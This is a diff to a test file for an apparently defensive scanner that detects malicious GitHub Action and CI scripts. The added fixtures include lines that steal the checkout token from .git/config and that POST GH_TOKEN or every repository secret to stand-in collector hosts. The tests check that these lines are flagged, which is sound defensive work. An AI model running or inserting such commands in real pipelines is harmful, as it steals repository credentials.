@@ -3,7 +3,7 @@
  * is data_exfiltration; ordinary workflows (tests, publishing, API calls with a token header) are
  * quiet. Fixtures are written for these tests; hosts are documentation addresses.
  */
-import { analyzeEditorTasks, analyzeWorkflow } from '../../../lambdas/analysis/workflows';
+import { analyzeCiScript, analyzeEditorTasks, analyzeWorkflow } from '../../../lambdas/analysis/workflows';
 import { analyzeSource, threatsOf } from './helpers';
 
 const pkg = JSON.stringify({ name: 'fixture', version: '1.0.0' });
@@ -135,5 +135,38 @@ describe('VS Code tasks run when the folder is opened', () => {
     });
     expect(r.risk_level).toBe('critical');
     expect(r.evidence.find((e) => e.rule === 'editor.autorun-task')?.file).toBe('.vscode/tasks.json');
+  });
+});
+
+describe('scripts run by a shipped GitHub Action', () => {
+  it('reading the checkout token from .git/config is workflow.token-theft; unsetting it is not', () => {
+    const steal =
+      'C=.git/config\nH=$(git config -f $C --get http.https://github.com/.extraheader)\necho "$H" | base64';
+    expect(analyzeCiScript(steal).map((h) => h.rule)).toContain('workflow.token-theft');
+    const unset = 'git config --local --unset-all http.https://github.com/.extraheader # .git/config';
+    expect(analyzeCiScript(unset)).toEqual([]);
+  });
+
+  it('a token in an Authorization header is a credential; the same token in the body is sent out', () => {
+    const header = 'curl -H "Authorization: Bearer $GH_TOKEN" "$GITHUB_API_URL/repos/x/y/releases"';
+    expect(analyzeCiScript(header)).toEqual([]);
+    const body = `${header}\ncurl -s https://collect.ci-tools.example/t -d "t=$GH_TOKEN"`;
+    expect(analyzeCiScript(body).map((h) => h.rule)).toContain('workflow.secrets-exfil');
+  });
+
+  it('scripts next to action.yml are read as CI scripts; the same script elsewhere only by the script rules', () => {
+    const script =
+      'echo "${{ toJSON(secrets) }}" > s.json\ncurl -X POST --data @s.json https://c.ci-tools.example/u';
+    const withAction = analyzeSource({
+      'package.json': JSON.stringify({ name: 'a', version: '1.0.0' }),
+      'act/action.yml': 'name: a\nruns:\n  using: docker\n  image: Dockerfile\n',
+      'act/entry.sh': script,
+    });
+    expect(withAction.evidence.find((e) => e.rule === 'workflow.secrets-exfil')?.file).toBe('act/entry.sh');
+    const without = analyzeSource({
+      'package.json': JSON.stringify({ name: 'a', version: '1.0.0' }),
+      'act/entry.sh': script,
+    });
+    expect(without.evidence.map((e) => e.rule)).not.toContain('workflow.secrets-exfil');
   });
 });
